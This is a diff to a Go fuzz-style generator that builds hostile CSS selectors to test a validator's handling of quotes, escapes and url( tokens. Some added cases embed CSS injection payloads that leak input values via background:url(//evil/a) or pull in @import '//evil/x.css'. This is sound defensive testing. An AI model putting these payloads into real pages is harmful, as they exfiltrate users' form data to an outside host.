@@ -31,7 +31,7 @@ var selPieces = []string{
 }
 
 // short alphabet for the exhaustive part
-var selCore = []string{"\"<\"", "a", "-", " ", "[", "]", "(", ")", "\"", "'", "\\", "url(", "\n", "\f", "{", "}", ";", "@", "<", "/*", ">", "\"{\"", "'}'", "x\"){}y{", "1", "#", ".", "=", "u", "r", "l"}
+var selCore = []string{"\"<\"", "\"\"", "a", "-", " ", "[", "]", "(", ")", "\"", "'", "\\", "url(", "\n", "\f", "{", "}", ";", "@", "<", "/*", ">", "\"{\"", "'}'", "x\"){}y{", "1", "#", ".", "=", "u", "r", "l"}
 
 func genC16(c *Ctx) {
 	c.stats.Rule = "op css.rule (selector, style): selectors assembled from a grammar of pieces (identifiers, combinators, brackets, quotes, complete and broken strings, " +
@@ -70,10 +70,25 @@ func genC16(c *Ctx) {
 			do("a:not("+p+")", si, "piece-in-function")
 		}
 	}
+	// an escaped backslash at the end of a string, followed by every kind of character: whatever a validator does with
+	// escapes, the string ends at the next quote
+	for _, x := range []string{":", "/", ".", ",", ";", "!", "-", "_", " ", "0", "a", "n", "\\", "(", ")", "[", "]", "{", "}", "*", "#", "@", "\xc3\xa9"} {
+		for _, q := range []string{"\"", "'"} {
+			for si := range styles {
+				do("[a="+q+"\\\\"+x+q+"]{}input[value^=a]{background:url(//evil/a)}x[b="+q+"]", si, "escaped-backslash-in-string")
+				do("[a="+q+"x\\\\"+x+q+"]{}@import "+q+"//evil/x.css"+q+";y[b="+q+"]", si, "escaped-backslash-in-string")
+				do(q+"\\\\"+x+q+"{"+q, si, "escaped-backslash-in-string")
+				do("[a="+q+"\\"+x+q+"]", si, "escaped-char-in-string")
+			}
+		}
+	}
 	// the design-phase witness and relatives
 	for _, s := range []string{
 		"url(x\"){}input[value^=a]{background:url(//evil/a)}z{\"y)",
 		"URL(x'){}*{color:red}z{'y)", "a url( \"){}b{\" )", "url(\"){}b{\")", "a:not(url(x\"){}b{\"))", "url(x\"){}b{\"", "-url(x\"){}b{\")", "#url(x\"){}b{\")",
+		// an (empty) string between an identifier and url(: removing strings must not glue them together
+		"a\"\"url(x\"){}input[value^=a]{background:url(//evil/a)}z{\"y)", "a''url(x'){}b{'y)", "-\"\"url(x\"){}b{\")", "_\"q\"URL(x\"){}b{\")",
+		"0\"\"url(x\"){}b{\")", "a\"\"\"\"url(x\"){}b{\")", "\\61\"\"url(x\"){}b{\")", "é\"\"url(x\"){}b{\")",
 	} {
 		for si := range styles {
 			do(s, si, "url-paren-witness")
@@ -99,7 +114,7 @@ func genC16(c *Ctx) {
 	rec("", depth)
 	if c.thorough {
 		c.stats.Exhaustive = true
-		c.stats.ExhaustiveWhat = "all selectors made of ≤ 3 pieces of a 31-piece core alphabet (quotes, brackets, url(, braces, newlines, comment start, …), styles cycling"
+		c.stats.ExhaustiveWhat = "all selectors made of ≤ 3 pieces of a 32-piece core alphabet (quotes, the empty string, brackets, url(, braces, newlines, comment start, …), styles cycling"
 	}
 	// every bracket word over ( ) [ ] up to length 4 (quick) / 7 (thorough): balanced by count but interleaved etc.
 	var words func(prefix string, n int)
